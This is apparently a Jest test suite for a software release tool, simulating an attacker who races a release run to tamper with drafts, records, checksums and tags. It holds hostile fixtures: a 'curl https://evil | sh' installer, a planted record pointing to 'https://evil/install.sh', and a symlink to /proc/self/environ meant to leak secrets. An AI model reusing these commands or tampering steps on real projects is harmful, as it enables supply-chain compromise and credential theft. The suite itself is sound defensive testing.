// A live attacker who may write releases and tags, and cannot sign: in the draft, in the moment of publishing, afterwards.
import { readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { createHash } from 'node:crypto';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { afterAll, beforeAll, expect, test } from '@jest/globals';
import type { JobOptions, JobResult } from '../runner/job.ts';
import { addTags } from '../sweep/more-tags.ts';
import { openStage, RELEASE_MS, SET_UP_MS, type Stage, publicWrites } from './stage.ts';

let stage: Stage;
beforeAll(async () => {
  stage = await openStage();
  await writeFile(join(stage.dir, 'install.sh'), 'curl https://evil | sh\n');
}, SET_UP_MS);
afterAll(() => stage.close(), SET_UP_MS);

const gh = async (...argv: readonly string[]): Promise<string> => {
  const { code, stdout, stderr } = await stage.judges.gh(...argv);
  if (code !== 0) throw new Error(`gh ${argv.join(' ')}: ${stderr}`);
  return stdout;
};
const told = ({ annotations }: JobResult): string => annotations.map(({ message }) => message).join('\n');
const releasesOf = (tag: string): ReturnType<Stage['site']['standIns']['releases']> =>
  stage.site.standIns.releases().filter((one) => one.tag_name === tag);

const repo = (): readonly string[] => ['--repo', stage.site.repository];

interface Attack extends Required<Pick<JobOptions, 'onCall'>> {
  /** `strike`, and the run's later calls, in order: the strike comes first, or there was no race. */
  readonly moments: readonly string[];
}

/**
 * A live attacker: strikes once, between two calls of the run. The first has been answered, but the run hears of it only when
 * the attacker is done. @param isFirst knows the call by `METHOD host/path`. @param later what the run must not have asked yet
 */
function between(isFirst: (line: string) => boolean, later: RegExp, strike: () => Promise<unknown>): Attack {
  const moments: string[] = [];
  let struck = false;
  return {
    moments,
    onCall: async ({ method, host, path }, phase) => {
      const line = `${method} ${host}${path}`;
      if (phase === 'before' && later.test(line)) moments.push(line);
      if (phase !== 'after' || struck || !isFirst(line)) return;
      struck = true;
      await strike();
      moments.push('strike');
    },
  };
}

/** The last of so many uploads. */
const uploads = (count: number): ((line: string) => boolean) => {
  let seen = 0;
  return (line) => line.startsWith('POST uploads.github.com/') && ++seen === count;
};
const publishing = /^PATCH api\.github\.com\/repos\/[^/]+\/[^/]+\/releases\/\d+$/;
const listing = (line: string): boolean =>
  /^GET api\.github\.com\/repos\/[^/]+\/[^/]+\/releases(?:\?|$)/.test(line);

/** GitHub's lists show a fresh draft late (H1 in docs/reality.md): the attacker waits until everybody sees it. */
async function untilListed(tag: string): Promise<void> {
  const listed = (): Promise<string> =>
    gh('api', `repos/${stage.site.repository}/releases`, '--jq', '.[].tag_name');
  while (!(await listed()).split('\n').includes(tag)) await sleep(200);
}

test(
  'notes-file that is made a link to the environment of the process, under a run that has begun: nothing is written, and no plan shows it',
  async () => {
    for (const mode of ['release', 'plan']) {
      let notes = '';
      const attack = between(
        (line) => line.includes(' api.github.com/'),
        /^(?:POST|PATCH) (?:api\.github\.com\/.*\/(?:releases|comments)|uploads\.)/,
        async () => {
          await rm(notes);
          await symlink('/proc/self/environ', notes);
        },
      );
      const result = await stage.release('v1.2.0', {
        builder: false,
        with: { mode, 'notes-file': 'LINK.md' },
        prepare: (workspace) => writeFile((notes = join(workspace, 'LINK.md')), 'honest words\n'),
        onCall: attack.onCall,
      });
      expect(attack.moments).toEqual(['strike']);
      expect(result).toMatchObject({ conclusion: 'failure', exitCode: 1 });
      expect(told(result)).toMatch(/notes-file LINK\.md leads to \/proc\/\d+\/environ/);
      expect(publicWrites(result.calls)).toEqual([]);
    }
  },
  RELEASE_MS,
);

test(
  'a file that is put into the draft right before it is public is not published, and is not taken away',
  async () => {
    const attack = between(uploads(4), publishing, () =>
      gh('release', 'upload', 'v1.1.0', join(stage.dir, 'install.sh'), ...repo()),
    );
    const result = await stage.release('v1.1.0', { onCall: attack.onCall });
    expect(attack.moments).toEqual(['strike']);
    expect(result).toMatchObject({ conclusion: 'failure', exitCode: 1 });
    expect(told(result)).toMatch(/the draft of v1\.1\.0 was changed while this run filled it.*install\.sh/);
    const [draft] = releasesOf('v1.1.0');
    expect(draft).toMatchObject({ draft: true });
    expect(draft?.assets.map(({ name }) => name)).toContain('install.sh');
    await gh('release', 'delete-asset', 'v1.1.0', 'install.sh', '--yes', ...repo());
    const again = await stage.release('v1.1.0');
    expect(again).toMatchObject({ conclusion: 'success', outputs: { verified: 'true' } });
  },
  RELEASE_MS * 2,
);

test(
  'a release of the same commit and image that somebody else publishes a moment before is not adopted',
  async () => {
    const strike = async (): Promise<void> => {
      await gh(
        'release',
        'download',
        'v1.2.0',
        '--dir',
        stage.dir,
        '--pattern',
        'release.json',
        '--clobber',
        ...repo(),
      );
      const [draft] = releasesOf('v1.2.0');
      const at = `repos/${stage.site.repository}/releases/${draft?.id ?? 0}`;
      await gh('release', 'upload', 'v1.2.0', join(stage.dir, 'install.sh'), ...repo());
      await gh('api', '--method', 'PATCH', at, '-F', 'draft=false', '-f', 'tag_name=v1.2.0');
    };
    const attack = between(uploads(4), publishing, strike);
    const result = await stage.release('v1.2.0', { onCall: attack.onCall });
    expect(attack.moments).toEqual(['strike']);
    expect(result).toMatchObject({ conclusion: 'failure', exitCode: 1 });
    expect(told(result)).toMatch(
      /somebody else has published v1\.2\.0 and it does not verify:[\s\S]*install\.sh/,
    );
    expect(result.outputs['verified']).not.toBe('true');
    const verified = await stage.release('v1.2.0', { builder: false, with: { mode: 'verify' } });
    expect(verified).toMatchObject({ exitCode: 1, outputs: { verified: 'false' } });
    expect(verified.log.join('\n')).toMatch(/NOT OK.*not of this release: install\.sh/);
  },
  RELEASE_MS * 2,
);

interface Record {
  readonly images: { digest: string; tags: string[] }[];
  readonly assets: { name: string; size: number; sha256: string }[];
  readonly signature?: { identity: string };
  readonly checksums?: { asset: string; bundle?: string };
}

/** Edits the record of a release, as anybody who may write assets can. */
async function editRecord(tag: string, edit: (record: Record) => void): Promise<void> {
  const to = ['--dir', stage.dir, '--pattern', 'release.json', '--clobber'];
  await gh('release', 'download', tag, ...to, ...repo());
  const file = join(stage.dir, 'release.json');
  const record = JSON.parse(await readFile(file, 'utf8')) as Record;
  edit(record);
  await writeFile(file, `${JSON.stringify(record, null, 2)}\n`);
  await gh('release', 'upload', tag, file, '--clobber', ...repo());
}

const imageTags = async (): Promise<readonly string[]> => {
  const { stdout } = await stage.judges.crane('ls', '--insecure', stage.judges.local);
  return stdout.split('\n').filter((tag) => tag !== '' && !tag.startsWith('sha256-'));
};

test(
  'a record that says that nothing is signed, with its sums made anew and an installer, does not verify: while it is verified, nor after',
  async () => {
    const strike = async (): Promise<void> => {
      await gh('release', 'upload', 'v1.1.0', join(stage.dir, 'install.sh'), ...repo());
      await gh('release', 'delete-asset', 'v1.1.0', 'checksums.txt.sigstore.json', '--yes', ...repo());
      const installer = await readFile(join(stage.dir, 'install.sh'));
      const sha256 = createHash('sha256').update(installer).digest('hex');
      await editRecord('v1.1.0', (record) => {
        record.assets.push({ name: 'install.sh', size: installer.length, sha256 });
        if (record.checksums) delete record.checksums.bundle;
      });
      const sums: string[] = [];
      for (const { name, digest } of releasesOf('v1.1.0')[0]!.assets)
        if (name !== 'checksums.txt') sums.push(`${digest!.slice('sha256:'.length)}  ${name}\n`);
      await writeFile(join(stage.dir, 'checksums.txt'), sums.join(''));
      await gh('release', 'upload', 'v1.1.0', join(stage.dir, 'checksums.txt'), '--clobber', ...repo());
    };
    const verify = { builder: false, with: { mode: 'verify' } };
    // The list of assets is the honest one; what verify asks for by it is the attacker's, or gone.
    const attack = between(listing, /^GET api\.github\.com\/repos\/.*\/releases\/assets\/\d+$/, strike);
    const raced = await stage.release('v1.1.0', { ...verify, onCall: attack.onCall });
    expect(attack.moments[0]).toBe('strike');
    expect(attack.moments.length).toBeGreaterThan(1);
    expect(raced.exitCode).toBe(1);
    expect(raced.outputs['verified']).not.toBe('true');

    const verified = await stage.release('v1.1.0', verify);
    expect(verified).toMatchObject({ exitCode: 1, outputs: { verified: 'false' } });
    const wrong = verified.log.filter((line) => line.startsWith('NOT OK'));
    expect(wrong[0]).toMatch(/release\.json is signed: nothing that is signed speaks of it/);
    expect(wrong.join('\n')).toMatch(/it does not speak of install\.sh/);
  },
  RELEASE_MS,
);

test(
  'a draft that somebody plants with a record like ours, once the run has looked, is not signed, and not published',
  async () => {
    addTags(stage.site, ['v1.3.0']);
    const tag = 'v1.3.0-rc.1';
    const to = ['--dir', stage.dir, '--pattern', 'release.json', '--clobber'];
    await gh('release', 'download', 'v1.1.0', ...to, ...repo());
    const file = join(stage.dir, 'release.json');
    const old = JSON.parse(await readFile(file, 'utf8')) as object;
    const planted = JSON.stringify({
      ...old,
      ...{ version: tag.slice(1), tag, installer: 'https://evil/install.sh' },
    });
    await writeFile(file, planted);
    const strike = async (): Promise<void> => {
      await gh('release', 'create', tag, '--draft', '--title', tag, '--notes', '', ...repo());
      await gh('release', 'upload', tag, file, join(stage.dir, 'install.sh'), ...repo());
      await untilListed(tag);
    };
    const stored = (line: string): boolean =>
      /^POST api\.github\.com\/repos\/[^/]+\/[^/]+\/attestations$/.test(line);
    const attack = between(
      stored,
      /^POST (?:api\.github\.com\/.*\/releases$|uploads\.github\.com\/)/,
      strike,
    );
    const result = await stage.release(tag, { onCall: attack.onCall });
    expect(attack.moments).toEqual(['strike']);
    expect(result).toMatchObject({ conclusion: 'failure', exitCode: 1 });
    expect(told(result)).toMatch(/holds a file release\.json already/);
    expect(releasesOf(tag)).toMatchObject([{ draft: true }]);
    expect(await imageTags()).not.toContain(tag);
    const sum = createHash('sha256').update(planted).digest();
    const log = JSON.stringify(stage.site.standIns.logEntries());
    expect([log.includes(sum.toString('hex')), log.includes(sum.toString('base64'))]).toEqual([false, false]);
  },
  RELEASE_MS,
);

test(
  'a record that nobody signed, published a moment before, makes the run write none of its tags',
  async () => {
    const before = await imageTags();
    const strike = async (): Promise<void> => {
      await editRecord('v1.3.0', ({ images }) => {
        images[0]!.tags.push('latest', 'v1', 'production');
      });
      const at = `repos/${stage.site.repository}/releases/${releasesOf('v1.3.0')[0]!.id}`;
      await gh('api', '--method', 'PATCH', at, '-F', 'draft=false', '-f', 'tag_name=v1.3.0');
    };
    const attack = between(uploads(4), publishing, strike);
    const result = await stage.release('v1.3.0', { onCall: attack.onCall });
    expect(attack.moments).toEqual(['strike']);
    expect(result).toMatchObject({ conclusion: 'failure', exitCode: 1 });
    expect(told(result)).toMatch(/somebody else has published v1\.3\.0/);
    expect(result.outputs['verified']).not.toBe('true');
    expect(await imageTags()).toEqual(before);
  },
  RELEASE_MS,
);
